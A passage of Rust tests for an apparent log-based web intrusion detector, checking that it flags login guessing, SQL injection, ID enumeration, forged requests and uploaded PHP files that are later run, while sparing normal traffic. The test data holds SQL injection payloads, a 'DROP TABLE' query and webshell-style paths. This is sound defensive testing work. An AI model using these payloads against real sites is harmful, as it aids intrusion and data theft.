        "/connexion",
        "/acceso",
        "/iniciar-sesion",
    ] {
        for status in [302, 401] {
            assert_eq!(guesses_of((0..60).map(|_| Line { status, ..post(ACTOR, target) })), 1, "{target} {status}");
        }
    }
    for target in [
        "/administrator/index.php?option=com_content&task=article.apply",
        "/phpmyadmin/index.php?route=/sql",
        "/broadcasting/auth",
        "/api/auth/logout",
        "/authors",
        "/plugins/blog",
        "/search?q=login",
        "/ajax/login-status",
        "/deconnexion",
        "/accesorios/",
        "/iniciar-pago",
        "/newsletter-anmeldung",
        "/admin/?do=save",
        "/user/7",
    ] {
        assert_eq!(guesses_of((0..60).map(|_| post(ACTOR, target))), 0, "{target}");
    }
}

#[test]
fn a_program_that_logs_in_with_each_call_is_let_alone_and_one_that_guesses_is_not() {
    let call = |target: &str, status| Line { status, agent: "python-requests/2.32", ..post(ACTOR, target) };
    for target in ["/oauth/token", "/api/auth", "/api/v1/auth/login", "/rest/auth/1/session"] {
        assert_eq!(guesses_of((0..300).map(|_| call(target, 200))), 0, "{target}");
        // One whose login ends now and then, and one that waits until somebody lets it in.
        assert_eq!(guesses_of((0..300).map(|n| call(target, if n % 60 == 0 { 401 } else { 200 }))), 0, "{target}");
        let mut host = Host::new();
        host.sees_all(0, 5, (0..100).map(|_| call(target, 400)));
        assert_eq!(host.incidents().len(), 0, "{target}");
        let mut host = Host::new();
        host.sees_all(0, 1, (0..30).map(|_| call(target, 401)));
        host.sees(30, &call(target, 200));
        let incident = host.the_incident();
        assert!(incident.outcome == Outcome::LikelySucceeded && incident.outcome_reason.contains("status 401"));
    }
    // A page that asks for more time.
    assert_eq!(guesses_of((0..60).map(|_| Line { status: 200, bytes: 400, ..post(ACTOR, "/session") })), 0);
    assert_eq!(guesses_of((0..60).map(|_| Line { status: 200, bytes: 4_000, ..post(ACTOR, "/session") })), 1);
}

#[test]
fn what_is_sent_where_people_log_in_is_no_guess_if_its_answers_differ() {
    let call = |target: &str, agent, n: u64| Line { status: 200, bytes: 1_900 + 37 * n, agent, ..post(ACTOR, target) };
    for (target, agent) in [
        ("/xmlrpc.php", "wp-iphone/24.0 (iPhone; iOS 17.0; Scale/3.00)"),
        ("/xmlrpc.php?for=jetpack&token=abc&timestamp=1&nonce=x", "Jetpack by WordPress.com"),
        ("/admin/", FIREFOX),
        ("/my-account/", FIREFOX),
    ] {
        assert_eq!(guesses_of((0..60).map(|n| call(target, agent, n))), 0, "{target}");
        assert_eq!(guesses_of((0..60).map(|_| call(target, agent, 0))), 1, "{target}");
    }
    // One who works there, a step at a time, and programs that make users or ask for little.
    let mut host = Host::new();
    host.sees_all(0, 10, (0..60).map(|_| post(ACTOR, "/admin/")));
    assert_eq!(host.incidents().len(), 0, "{:#?}", host.incidents());
    assert_eq!(guesses_of((0..60).map(|_| Line { status: 201, ..post(ACTOR, "/user") })), 0);
    assert_eq!(guesses_of((0..60).map(|_| Line { status: 200, bytes: 40, ..post(ACTOR, "/admin/") })), 0);
    // A service that lets another one in with each call.
    let call = Line { status: 200, bytes: 512, agent: "okhttp/4.12", ..post(ACTOR, "/v1/authenticate") };
    assert_eq!(guesses_of((0..60).map(|_| call.clone())), 0);
}

#[test]
fn a_postal_code_and_a_ticket_are_no_passwords_and_a_pin_is_where_somebody_logs_in() {
    let asked = |target: &str| guesses_of((0..12).map(|n| get(ACTOR, format!("{target}{n}"))));
    for target in ["/delivery/check?pin=5600", "/event/entry?pass=A10", "/map?zoom=3&pin="] {
        assert_eq!(asked(target), 0, "{target}");
    }
    for target in ["/brute/?username=admin&pass=x", "/login?pin=12", "/brute/?passwd=x"] {
        assert_eq!(asked(target), 1, "{target}");
    }
}

#[test]
fn addresses_of_one_network_that_take_turns_at_a_login_are_one_actor() {
    let mut host = Host::new();
    host.sees_all(0, 10, (0..30).map(|n| post(&format!("192.0.2.{}", n % 10), "/login.php")));
    let incident = host.the_incident();
    assert_eq!(incident.actor, "192.0.2.0/24");
    assert!(incident.behaviour[0].ends_with("from several addresses of one network"), "{:?}", incident.behaviour);
}

#[test]
fn a_session_that_guesses_from_everywhere_is_found() {
    let mut host = Host::new();
    let login = |n: i64, session: &str| post(&format!("10.{n}.0.1"), format!("/login.php?PHPSESSID={session}"));
    host.sees_all(0, 10, (0..20).map(|n| login(n, "5d2c4f8e")));
    assert!(host.incidents()[0].behaviour[0].ends_with("from several addresses with one session"));
    // As many people with a session each are none of it.
    let mut host = Host::new();
    host.sees_all(0, 10, (0..20).map(|n| login(n, &format!("{n}"))));
    assert_eq!(host.incidents().len(), 0);
}

#[test]
fn the_third_address_of_a_network_with_the_same_user_agent_is_the_network() {
    let mut host = Host::new();
    let attack = |n: i64| get(&format!("192.0.2.{n}"), format!("/item{n}?id=1%27+union+select+1,2--+-"));
    host.sees_all(0, 1, (1..=6).map(attack));
    let stranger = Line { agent: "curl/8", ..attack(9) };
    host.sees(9, &stranger);
    let actors: Vec<&str> = host.incidents().iter().map(|incident| incident.actor.as_str()).collect();
    assert_eq!(actors, ["192.0.2.1", "192.0.2.2", "192.0.2.9", "192.0.2.0/24"]);
    assert_eq!(host.incidents()[3].findings, 4);
}

#[test]
fn who_changes_his_address_within_the_64_bits_of_ipv6_is_one_actor() {
    let mut host = Host::new();
    let attack = |n: i64| get(&format!("2001:db8::{n}"), format!("/item{n}?id=1%27+union+select+1,2--+-"));
    host.sees_all(0, 1, (1..=6).map(attack));
    let incident = host.the_incident();
    assert_eq!((incident.actor.as_str(), incident.findings), ("2001:db8::/64", 6));
    host.sees(9, &get("2001:db9::1", "/item?id=1%27+union+select+1,2--+-"));
    assert_eq!(host.incidents().len(), 2);
}

#[test]
fn an_incident_that_is_over_is_not_the_one_that_its_actor_begins_later() {
    let mut host = Host::new();
    let attack = get(ACTOR, "/item?id=1%27+union+select+1,2--+-");
    host.sees(0, &attack);
    host.sees(3_600, &attack);
    let told: Vec<Incident> = host.revisions().into_iter().cloned().collect();
    assert_eq!(
        told.iter().map(|one| (one.revision, one.is_over)).collect::<Vec<_>>(),
        [(1, false), (2, true), (1, false)]
    );
    // A frame that is read again tells of both.
    told.iter().for_each(|one| host.engine.was_told(one));
    let mut after = host.sees(3_900, &attack).incidents.clone();
    assert_eq!((after.len(), after[0].id, after[0].revision, after[0].findings), (1, told[2].id, 2, 2));
    after.extend(host.engine.pass(NOON + 7_200_000));
    assert_eq!((after[1].id, after[1].revision, after[1].is_over), (told[2].id, 3, true));
}

#[test]
fn where_more_actors_are_at_work_than_are_watched_those_give_way_that_were_not_told_of() {
    let limits = Limits { incidents: 20, ..Limits::default() };
    let mut host = Host { engine: Engine::new("h", limits), ..Host::new() };
    let attack = |n: i64| get(&format!("10.{n}.0.1"), format!("/item{n}?id=1%27+union+select+1,2--+-"));
    let look = |n: i64| Line { status: 404, ..get(&format!("172.16.{n}.1"), "/phpmyadmin/") };
    host.sees_all(0, 1, (0..19).map(attack));
    host.sees_all(20, 1, (0..100).map(look));
    host.sees_all(200, 1, (0..19).map(attack));
    assert_eq!(host.incidents().len(), 19, "{:#?}", host.incidents());
    assert!(host.incidents().iter().all(|incident| incident.findings == 2 && !incident.is_over));
    assert!(Limits::of(200_000).incidents > Limits::default().incidents);
}

#[test]
fn what_an_attacker_asks_for_between_his_attacks_belongs_to_his_incident() {
    let mut host = Host::new();
    assert_eq!(host.sees(0, &get(ACTOR, "/")).incident, None, "nothing is known of him");
    let attack = host.sees(1, &get(ACTOR, "/item?id=1%27+union+select+1,2--+-")).clone();
    let clean = host.sees(2, &get(ACTOR, "/item?id=1")).clone();
    assert!(clean.incident.is_some() && clean.incident == attack.incident, "{clean:?}");
    assert_eq!(clean, Told { incident: attack.incident, ..Told::default() });
    assert_eq!(host.sees(3, &get("198.51.100.2", "/item?id=1")).incident, None);
    assert_eq!(host.sees(31 * 60, &get(ACTOR, "/item?id=1")).incident, None, "it is over");
}

#[test]
fn conditions_that_are_answered_in_two_ways_are_blind_sql_injection() {
    let mut host = Host::new();
    let ask = |n: i64| Line { status: if n % 2 == 0 { 200 } else { 404 }, ..get(ACTOR, format!("/item?k=f({n})")) };
    host.sees_all(0, 1, (0..30).map(ask));
    let incident = host.the_incident();
    assert_eq!(incident.categories[&Category::Sqli], 30);
    assert!(incident.behaviour[0].starts_with("tries conditions in `k`"), "{:?}", incident.behaviour);
}

#[test]
fn filters_of_apis_are_no_conditions() {
    let told = |target: &dyn Fn(i64) -> String| {
        let mut host = Host::new();
        let ask =
            |n: i64| Line { bytes: if n % 2 == 0 { 112 } else { 260 }, agent: "okhttp/4", ..get(ACTOR, target(n)) };
        host.sees_all(0, 1, (0..120).map(ask));
        host.incidents().len()
    };
    assert_eq!(told(&|n| format!("/scim/v2/Users?filter=userName+eq+%22u{n}%40corp.example%22&attributes=id")), 0);
    assert_eq!(told(&|n| format!("/odata/Customers?$filter=Number%20eq%20%27K{n}%27&$select=Id")), 0);
    assert_eq!(told(&|n| format!("/rest/api/2/search?jql=key%3D%22PRJ-{n}%22&fields=id")), 0);
    // A quote that is not closed, and one that the statement closes.
    assert_eq!(told(&|n| format!("/item?id=1%27%20and%20{n}%3E60")), 1);
    assert_eq!(told(&|n| format!("/item?id=1%27%20AND%20{n}%3E60%20AND%20%271%27=%271")), 1);
}

#[test]
fn one_number_after_the_other_is_asked_for_by_who_looks_for_others_data() {
    let mut host = Host::new();
    host.sees_all(0, 1, (0..24).map(|n| get(ACTOR, format!("/invoice?id={}", 1_000 + n))));
    let told = &host.the_incident().behaviour[0];
    assert!(told.starts_with("asks for one number after the other in `id`, "), "{told}");
}

#[test]
fn visitors_robots_and_those_who_search_ask_for_many_numbers_and_words() {
    let mut host = Host::new();
    let from = |target: String| Line { referer: "http://h.lab/list", ..get("198.51.100.1", target) };
    host.sees_all(0, 1, (0..60).map(|n| from(format!("/invoice?id={n}"))));
    let robot = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)";
    host.sees_all(0, 1, (0..60).map(|n| Line { agent: robot, ..get("198.51.100.2", format!("/show?id={n}")) }));
    host.sees_all(0, 1, (0..200).map(|n| get("198.51.100.3", format!("/list?page={n}"))));
    let typed = |n: usize| Line {
        bytes: n as u64 * 37,
        ..get("198.51.100.4", format!("/suggest?q={}", &"wool coat (red)"[..n % 15].replace(' ', "+")))
    };
    host.sees_all(0, 1, (0..60).map(typed));
    assert_eq!(host.incidents().len(), 0, "{:#?}", host.incidents());
}

#[test]
fn who_sends_a_referer_with_each_number_in_a_row_and_loads_no_page_is_a_tool() {
    let row = |client: &str, n: i64| Line { referer: "http://h.lab/list", ..get(client, format!("/invoice?id={n}")) };
    let mut host = Host::new();
    host.sees_all(0, 1, (0..110).map(|n| row(ACTOR, n)));
    let told = &host.the_incident().behaviour[0];
    assert!(told.starts_with("asks for one number after the other in `id`, "), "{told}");
    // A page's script that asks for each entry of a list, who clicks, and who reads page by page.
    let mut host = Host::new();
    host.sees_all(0, 1, (0..110).map(|n| row("198.51.100.1", n * 7 % 110)));
    host.sees_all(0, 1, (0..80).map(|n| row("198.51.100.2", n)));
    host.sees(0, &Line { referer: "http://h.lab/list", ..get("198.51.100.3", "/style.css") });
    host.sees_all(0, 1, (0..110).map(|n| row("198.51.100.3", n)));
    let page = |n| Line { referer: "http://h.lab/list", ..get("198.51.100.4", format!("/list?page={n}")) };
    host.sees_all(0, 1, (0..110).map(page));
    assert_eq!(host.incidents().len(), 0, "{:#?}", host.incidents());
}

#[test]
fn numbers_in_a_path_are_counted_where_they_are_somebodys() {
    let mut host = Host::new();
    host.sees_all(0, 1, (0..60).map(|n| get(ACTOR, format!("/shop/invoices/{}/print", 1_000 + n))));
    let told = &host.the_incident().behaviour[0];
    assert!(told.starts_with("asks for one number after the other behind `/shop/invoices/`, "), "{told}");
    let mut host = Host::new();
    host.sees_all(0, 1, (0..20).map(|n| get(ACTOR, format!("/users/{n}"))));
    assert_eq!(host.incidents().len(), 1);
    // What everybody may read, what a customer looks at again, and what robots of search engines fetch.
    let mut host = Host::new();
    host.sees_all(0, 1, (0..110).map(|n| get("198.51.100.1", format!("/news/{n}"))));
    host.sees_all(0, 1, (0..110).map(|n| get("198.51.100.2", format!("/page/{n}"))));
    host.sees_all(0, 1, (0..110).map(|n| get("198.51.100.3", format!("/orders/{}", 7_000 + n % 9 * 311))));
    host.sees_all(0, 1, (0..110).map(|n| get("198.51.100.4", format!("/files/2026/11/{}", n % 30))));
    let robot = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)";
    host.sees_all(0, 1, (0..60).map(|n| Line { agent: robot, ..get("198.51.100.5", format!("/users/{n}")) }));
    let click = |n| Line { referer: "http://h.lab/users", ..get("198.51.100.6", format!("/users/{n}")) };
    host.sees_all(0, 1, (0..80).map(click));
    assert_eq!(host.incidents().len(), 0, "{:#?}", host.incidents());
}

#[test]
fn conditions_that_come_with_a_referer_are_counted_too() {
    let ask = |n: i64| {
        let status = if n % 2 == 0 { 200 } else { 404 };
        Line { status, referer: "http://h.lab/item", ..get(ACTOR, format!("/item?k=f({n})")) }
    };
    let mut host = Host::new();
    host.sees_all(0, 1, (0..40).map(ask));
    assert_eq!(host.incidents().len(), 0, "{:#?}", host.incidents());
    host.sees_all(40, 1, (40..80).map(ask));
    assert!(host.the_incident().behaviour[0].starts_with("tries conditions in `k`"), "{:?}", host.incidents());
    // Who loads pages types into a field that asks as he types.
    let mut host = Host::new();
    host.sees(0, &Line { referer: "http://h.lab/item", ..get(ACTOR, "/style.css") });
    host.sees_all(0, 1, (0..80).map(ask));
    assert_eq!(host.incidents().len(), 0, "{:#?}", host.incidents());
}

/// Pages of a site, whose links tell its name.
fn browse(host: &mut Host, client: &str) {
    for n in 0..10 {
        host.sees(n, &Line { referer: "http://h.lab/news", ..get(client, "/news") });
        host.sees(n, &Line { referer: "http://h.lab/news", ..get(client, "/style.css") });
    }
}

#[test]
fn a_change_that_another_sites_page_asks_for_is_told() {
    let mut host = Host::new();
    browse(&mut host, "198.51.100.1");
    let change = "/csrf/?password_new=REDACTED-1&password_conf=REDACTED-1";
    host.sees(20, &Line { referer: "http://h.lab/csrf/", ..get("198.51.100.1", change) });
    assert_eq!(host.incidents().len(), 0);
    host.sees(21, &Line { referer: "https://evil.example/kitten.html", ..get("198.51.100.1", change) });
    assert_eq!(host.the_incident().behaviour, ["a page of `evil.example` makes the browser ask for a change here"]);
}

#[test]
fn whatever_a_site_calls_a_change_another_sites_page_must_not_ask_for_it() {
    let told = |target: &str, referer: &'static str| {
        let mut host = Host::new();
        browse(&mut host, "198.51.100.1");
        host.sees(20, &Line { referer, ..get("198.51.100.1", target) });
        host.incidents().first().is_some_and(|incident| incident.categories.contains_key(&Category::Csrf))
    };
    let evil = "https://evil.example/kitten.html";
    for target in [
        "/wp-admin/users.php?action=delete&user=7",
        "/wp-admin/plugins.php?action=deactivate&plugin=a",
        "/administrator/index.php?option=com_users&task=user.save&jform[name]=x",
        "/administrator/index.php?option=com_content&task=articles.trash&cid[]=4",
        "/phpmyadmin/import.php?db=shop&sql_query=DROP+TABLE+users",
        "/index.php?do=delete-selected&id=7",
        "/forum/?op=ban&who=7",
        "/admin/?delete=7",
        "/users/7/delete",
        "/user/add?name=x&role=admin",
        "/transfer?to=7&amount=100",
        "/users/delete.json?id=7",
        "/deleteUser.php?id=7",
        "/change_password?to=x",
        "/delete?name=report-2026-final-draft",
    ] {
        assert!(told(target, evil), "{target}");
        assert!(!told(target, "http://h.lab/news"), "{target}");
    }
    for target in [
        "/cart?action=add&id=7",
        "/account?action=activate&key=0123456789abcdef",
        "/reset?token=0123456789abcdef",
        "/reset-password?reset_token=9f86d081884c7d659a2feaa0c55ad015",
        "/reset?u=5&t=9f86d081884c7d659a2feaa0c55ad015",
        "/newsletter/remove?m=5&h=mF9Zs2xQ7bLw0RtYpA3k",
        "/bookmarks?action=save&url=https://evil.example/",
        "/wp-login.php?action=lostpassword",
        "/forum/?mode=view&topic=delete",
        "/phpmyadmin/import.php?db=shop&sql_query=SELECT+1",
        "/how-to/delete-an-account?id=7",
        "/account/delete",
        "/services/transfer",
        "/grants?year=2026",
        "/remove-stains?utm_source=letter&lang=de",
        "/delete.css?v=1",
    ] {
        assert!(!told(target, evil), "{target}");
    }
}

/// Whether a forged request is told of where `line`, after its format's first field, comes from a page of
/// `referer` to a site that the log calls `shop.example`.
fn is_forged(host: &mut Host, referer: &str, target: &str) -> bool {
    let format: Format = r#"%v %h %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i""#.parse().expect("a format");
    let text = format!(
        r#"shop.example 198.51.100.1 [16/Nov/2026:12:00:00 +0000] "GET {target} HTTP/1.1" 200 5000 "{referer}" "{FIREFOX}""#
    );
    let parsed = format.parse(text.as_bytes());
    let access = parsed.access().expect("the test writes whole lines");
    let (attack, client) = (CLASSIFIER.classify(access), parsed.client_ip().expect("the test writes addresses"));
    let line = super::Line::Access { client, access, attack: attack.as_ref() };
    let seen = Seen { place: host.place(), at: NOON, line };
    host.engine.observe(&seen).categories.contains(&Category::Csrf)
}

#[test]
fn users_who_come_by_another_name_of_the_site_forge_nothing() {
    let change = "/cart/?remove=7";
    for own in ["https://www.shop.example/cart/", "https://SHOP.example:8443/cart/"] {
        assert!(!is_forged(&mut Host::new(), own, change), "{own}");
    }
    for other in ["https://evil.example/", "https://www.shop.example.evil.example/cart/", "https://wwwshop.example/"] {
        assert!(is_forged(&mut Host::new(), other, change), "{other}");
    }
    // A name that the server knows the site by as well is learnt from links on its pages.
    let mut host = Host::new();
    let alias = "https://laden.example/cart/";
    assert!(is_forged(&mut host, alias, change));
    (0..20).for_each(|_| _ = is_forged(&mut host, alias, "/cart/"));
    assert!(!is_forged(&mut host, alias, change));
    // One that sends a few links among thousands is none.
    (0..3_000).for_each(|_| _ = is_forged(&mut host, "https://shop.example/cart/", "/cart/"));
    let evil = "https://evil.example/cart/";
    (0..400).for_each(|_| _ = is_forged(&mut host, evil, "/cart/"));
    assert!(is_forged(&mut host, evil, change));
    // What a program of the site wrote into the link, nobody else's page knows.
    for known in ["/cart/?remove_item=7&delete=1&_wpnonce=3f2a9c1b77", "/list?action=delete&token=0123456789abcdef"] {
        assert!(!is_forged(&mut Host::new(), "https://mail.example/", known), "{known}");
    }
}

#[test]
fn an_administrator_at_work_is_no_incident() {
    let mut host = Host::new();
    browse(&mut host, "198.51.100.1");
    let own = |target: &str| Line { referer: "http://h.lab/news", ..get("198.51.100.1", target) };
    host.sees_all(20, 1, (0..5).flat_map(|_| [own("/phpmyadmin/"), own("/phpinfo.php")]));
    assert_eq!(host.incidents().len(), 0, "{:#?}", host.incidents());
}

#[test]
fn a_program_that_was_sent_and_is_run_has_worked() {
    let mut host = Host::new();
    host.sees(0, &Line { status: 200, ..post(ACTOR, "/vulnerabilities/upload/") });
    host.sees(9, &get(ACTOR, "/hackable/uploads/s2f.php"));
    let incident = host.the_incident();
    assert_eq!((incident.outcome, incident.first_seen), (Outcome::LikelySucceeded, NOON));
    assert!(incident.categories.contains_key(&Category::Upload));
}

#[test]
fn each_run_of_a_program_that_was_sent_is_told() {
    // How many of three runs are told as such, and as a success.
    let told = |sent: Line, run: &str| {
        let mut host = Host::new();
        host.sees(0, &sent);
        let is_run = |told: &Told| {
            let outcome = told.outcome.as_ref().map(|told| told.0);
            told.categories.contains(&Category::Upload) && outcome == Some(Outcome::LikelySucceeded)
        };
        (1..=3).filter(|n| is_run(host.sees(n * 1_500, &get(ACTOR, run)))).count()
    };
    let put = |target: &str| Line { method: "PUT", status: 201, ..get(ACTOR, target) };
    for (sent, run) in [
        (post(ACTOR, "/vulnerabilities/upload/"), "/hackable/uploads/s2f.php?x=1"),
        (post(ACTOR, "/wp-admin/update.php?action=upload-plugin"), "/wp-content/uploads/a/b.phtml"),
        (post(ACTOR, "/index.php?option=com_media&task=file.upload"), "/images/b.php"),
        (post(ACTOR, "/admin/file-manager/"), "/gallery/b.php4"),
        (put("/a.jsp/"), "/a.jsp"),
        (put("/files/a.txt"), "/files/b.php"),
        // A folder's name that a program has, and one that the attacker made, hide nothing.
        (post(ACTOR, "/upload/"), "/uploads/s2f.php/a.php"),
        (post(ACTOR, "/upload/"), "/uploads/raw/-/s2f.php"),
    ] {
        let target = sent.target.clone();
        assert_eq!(told(sent, run), 3, "{target} {run}");
    }
    for (sent, run) in [
        (post(ACTOR, "/vulnerabilities/upload/"), "/hackable/uploads/s2f.png"),
        (post(ACTOR, "/comment"), "/images/b.php"),
        (Line { status: 403, ..put("/a.jsp") }, "/a.jsp"),
        (put("/api/users/7"), "/api/users/7"),
        // What another program shows is text.
        (put("/remote.php/dav/files/anna/web/index.php"), "/remote.php/dav/files/anna/web/index.php"),
        (put("/dav/files/anna/web/index.php"), "/dav/files/anna/web/index.php"),
        (post(ACTOR, "/team/shop/uploads"), "/team/shop/-/blob/main/public/media/player.php"),
        (post(ACTOR, "/team/shop/uploads"), "/team/shop/src/branch/main/app/files/list.php"),
        (post(ACTOR, "/upload"), "/cgit/php-src/tree/ext/gd/tests/images/test.php"),
        (post(ACTOR, "/upload"), "/index.php/files/show.php"),
    ] {
        let target = sent.target.clone();
        assert_eq!(told(sent, run), 0, "{target} {run}");
    }
    // Programs of a gallery's own, of which nobody is known to have asked for one before.
    for (sent, run) in [
        (post(ACTOR, "/gallery/login.php"), "/gallery/profile.php"),
        (post(ACTOR, "/gallery/comment.php"), "/gallery/thanks.php"),
        (post(ACTOR, "/gallery/upload.php"), "/gallery/displayimage.php"),
        (post(ACTOR, "/gallery/admin/upload.php"), "/gallery/index.php"),
        (post(ACTOR, "/photos/ws.php?method=pwg.images.uploadAsync"), "/photos/picture.php?/12/category/3"),
        (post(ACTOR, "/gallery/"), "/gallery/view.php"),
    ] {
        let target = sent.target.clone();
        assert_eq!(told(sent, run), 0, "{target} {run}");
    }
    assert_eq!(told(post(ACTOR, "/gallery/upload.php"), "/gallery/albums/b.php"), 3);
    assert_eq!(told(post(ACTOR, "/upload/"), "/upload/b.php"), 3);
    // A program of the site's own that shows pictures was there before.
    let mut host = Host::new();
    host.sees(0, &get("198.51.100.1", "/gallery/thumb.php?id=1"));
    host.sees(1, &post("198.51.100.2", "/upload"));
    host.sees(2, &get("198.51.100.2", "/gallery/thumb.php?id=2"));
    assert_eq!(host.incidents().len(), 0, "{:#?}", host.incidents());
}

#[test]
fn a_file_that_was_put_and_is_run_under_another_end_of_its_name_has_worked() {
    let told = |moved: (&'static str, u16, &str), run: &str| {
        let mut host = Host::new();
        let (method, status, target) = moved;
        host.sees(0, &Line { method: "PUT", status: 201, bytes: 0, ..get(ACTOR, "/dav/x7.txt") });
        host.sees(2, &Line { method, status, bytes: 0, ..get(ACTOR, target) });
        let run = |n| Line { status: 200, ..post(ACTOR, format!("{run}?{n}")) };
        (0..10).filter(|n| host.sees(10 + n, &run(*n)).categories.contains(&Category::Upload)).count()
    };
    assert_eq!(told(("MOVE", 201, "/dav/x7.txt"), "/dav/x7.php"), 10);
    assert_eq!(told(("COPY", 204, "/dav/x7.txt"), "/dav/x7.jspx"), 10);
    for (moved, run) in [
        (("MOVE", 403, "/dav/x7.txt"), "/dav/x7.php"),
        (("MOVE", 201, "/dav/x8.txt"), "/dav/x7.php"),
        (("GET", 200, "/dav/x7.txt"), "/dav/x7.php"),
        (("MOVE", 201, "/dav/x7.txt"), "/dav/x7.html"),
        (("MOVE", 201, "/dav/x7.txt"), "/dav/index.php"),
    ] {
        assert_eq!(told(moved, run), 0, "{moved:?} {run}");
    }
}

/// User agents of one who asks for others.
const AGENTS: [&str; 12] = [
    "ShopApp/1 okhttp/4.12",
    "ShopApp/2 okhttp/4.12",
    "ShopApp/3 okhttp/4.12",
    "ShopApp/4 okhttp/4.12",
    "ShopApp/5 okhttp/4.12",
    "ShopApp/6 okhttp/4.12",
    "Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:134.0) Gecko/20100101 Firefox/134.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:135.0) Gecko/20100101 Firefox/135.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:136.0) Gecko/20100101 Firefox/136.0",
];

#[test]
fn a_balancer_floods_nothing_and_who_changes_his_user_agent_does() {
    let flood = |client: &str, a_second: i64, agents: &'static [&'static str]| {
        let mut host = Host::new();
        let line = |n: i64| Line { agent: agents[n as usize % agents.len()], ..post(client, "/graphql") };
        (0..20 * a_second).for_each(|n| _ = host.sees(n / a_second, &line(n)));
        host.incidents().iter().filter(|incident| incident.categories.contains_key(&Category::Dos)).count()
    };
    assert_eq!(flood("10.0.0.9", 120, &AGENTS), 0);
    assert_eq!(flood("10.0.0.9", 900, &AGENTS), 0);
    assert_eq!(flood("203.0.113.9", 120, &AGENTS), 0);
    assert_eq!(flood("203.0.113.9", 900, &AGENTS), 1);
    assert_eq!(flood("10.0.0.9", 120, &AGENTS[..2]), 1);
}

#[test]
fn those_who_log_in_through_a_balancer_do_not_guess_and_who_changes_his_user_agent_does() {
    let told = |agents: &'static [&'static str], referer, target: &str, answers: [(u16, u64); 5]| {
        let line = |n: usize| {
            let (status, bytes) = answers[n * 7 / 3 % 5];
            Line { status, bytes, referer, agent: agents[n % agents.len()], ..post(ACTOR, target) }
        };
        guesses_of((0..300).map(line))
    };
    let (ok, wrong) = ((200, 900), (401, 80));
    assert_eq!(told(&AGENTS, "-", "/oauth/token", [ok, ok, wrong, ok, ok]), 0);
    let (ok, wrong) = ((302, 0), (200, 3_101));
    let own = "https://sso.example/";
    for agents in [&AGENTS[..], &AGENTS[6..9]] {
        assert_eq!(told(agents, own, "/realms/main/login", [ok, ok, wrong, ok, ok]), 0);
        assert_eq!(told(agents, own, "/realms/main/login", [ok; 5]), 0);
        assert_eq!(told(agents, own, "/realms/main/login", [wrong; 5]), 1);
        assert_eq!(told(agents, "-", "/oauth/token", [(401, 80); 5]), 1);
    }
    assert_eq!(told(&AGENTS[6..], "-", "/login.php", [ok; 5]), 1);
}

#[test]
fn requests_that_are_never_finished_and_floods_are_told() {
    let mut host = Host::new();
    host.sees_all(0, 2, (0..30).map(|_| Line { status: 408, bytes: 0, agent: "-", ..get("198.51.100.1", "-") }));
    host.sees_all(0, 0, (0..1_500).map(|_| Line { agent: "x", ..get("198.51.100.2", "/") }));
    let told: Vec<&str> = host.incidents().iter().map(|incident| incident.behaviour[0].as_str()).collect();
    assert_eq!(
        told,
        [
            "begins requests and does not finish them, 20 so far",
            "sends 1000 requests for the same few paths within seconds"
        ]
    );
}

#[test]
fn connections_that_are_kept_ready_are_no_requests_that_are_not_finished() {
    let sees = |host: &mut Host, seconds: i64| {
        let line = br#"10.0.0.5 - - [16/Nov/2026:12:00:00 +0000] "-" 408 - "-" "-""#;
        let parsed = Format::Combined.parse(line);
        let line =
            super::Line::Access { client: parsed.client_ip().unwrap(), access: parsed.access().unwrap(), attack: None };
        let seen = Seen { place: host.place(), at: NOON + seconds * 1_000, line };
        host.engine.observe(&seen);
    };
    let mut host = Host::new();
    (0..60).for_each(|n| sees(&mut host, n * 5));
    assert_eq!(host.incidents().len(), 0, "{:#?}", host.incidents());
    // Hundreds of them are held open to use the server up.
    let mut host = Host::new();
    (0..450).for_each(|n| sees(&mut host, n / 2));
    assert_eq!(host.the_incident().behaviour, ["begins requests and does not finish them, 400 so far"]);
}

#[test]
fn an_answer_much_longer_than_usual_holds_what_was_stolen() {
    let mut host = Host::new();
    host.sees_all(
        0,
        1,
        (0..9).map(|n| Line {
            bytes: 4_940 - n % 2 * 57,
            referer: "http://h.lab/",
            ..get("198.51.100.1", format!("/sqli/?id={n}"))
        }),
    );
    let attack = |bytes| Line { bytes, ..get(ACTOR, "/sqli/?id=1%27+or+1%3D1--+-") };
    assert_eq!(host.sees(20, &attack(4_940)).outcome.as_ref().unwrap().0, Outcome::Unknown);
    let reason = "its answer has 5230 bytes, where the path's other answers have 4940 at most";
    assert_eq!(host.sees(21, &attack(5_230)).outcome, Some((Outcome::LikelySucceeded, reason.to_owned())));
    let missed = Line { status: 404, ..attack(4_984) };
    assert_eq!(host.sees(22, &missed).outcome.as_ref().unwrap().0, Outcome::Unknown);
}

/// Six pages of an application that answers everything with its front page.
fn visit_application(host: &mut Host, status: u16, bytes: u64) {
    for (n, page) in ["/", "/home", "/about", "/cart", "/login", "/user/1"].into_iter().enumerate() {
        host.sees(n as i64, &Line { status, bytes, ..get("198.51.100.1", page) });
    }
}

#[test]
fn the_answer_that_everything_gets_shows_nothing_that_was_asked_for() {
    let mut host = Host::new();
    visit_application(&mut host, 200, 1_532);
    let told = host.sees(20, &Line { bytes: 1_532, ..get(ACTOR, "/.env") }).outcome.clone();
    let reason = "other paths are answered with the same (status 200, 1532 bytes)";
    assert_eq!(told, Some((Outcome::Failed, reason.to_owned())));
    assert_eq!(host.the_incident().outcome, Outcome::Failed);
    // A file that is there has another length.
    let told = host.sees(21, &Line { bytes: 215, ..get(ACTOR, "/.env.bak") }).outcome.clone().unwrap();
    assert_eq!(told, (Outcome::LikelySucceeded, "what was asked for is there (status 200)".to_owned()));
}

#[test]
fn the_answer_that_everything_gets_is_known_among_what_pages_ask_for() {
    let mut host = Host::new();
    for (n, page) in ["/", "/home", "/about", "/cart", "/login", "/user/1"].into_iter().enumerate() {
        host.sees(n as i64, &Line { bytes: 1_532, ..get("198.51.100.1", page) });
        for call in 0..40 {
            let asked = |target: String, bytes: u64| Line { bytes, ..get("198.51.100.1", target) };
